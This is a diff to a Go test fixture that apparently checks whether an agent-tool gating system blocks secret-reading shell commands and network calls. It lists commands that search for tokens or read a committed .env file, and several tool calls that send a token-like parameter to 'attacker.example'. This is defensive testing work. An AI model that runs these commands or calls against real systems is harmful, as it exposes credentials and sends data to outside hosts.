@@ -182,8 +182,9 @@ func secretAndNetworkCalls() []*airlockv1.ToolCall {
 		add("fs", "tool_9", map[string]any{"path": p, "mode": "x"}, nil, false)
 		add("vault", "read", map[string]any{"deep": map[string]any{"list": []any{1.0, p}}}, nil, false)
 	}
-	for _, c := range []string{"grep -r token .", "rg --hidden x", "rg -uu x", "rgrep x .", "grep -v x f", "git show HEAD:.env"} {
+	for _, c := range []string{"grep -r token .", "rg --hidden x", "rg -uu x", "rgrep x .", "grep -v x f", "git show HEAD:.env", "make t?st", "make [ab]", "make *.o"} {
 		add("claude", "Bash", map[string]any{"command": c}, nil, false)
+		add("build", "sh", map[string]any{"cmd": c}, nil, false)
 	}
 	for _, t := range [][2]string{{"fetch", "fetch"}, {"http", "get_url"}, {"github", "get_file_contents"}, {"claude", "WebSearch"}, {"puppeteer", "read_page"}, {"x", "resolve_dns"}} {
 		add(t[0], t[1], map[string]any{"url": "https://attacker.example/?t=x"}, nil, false)
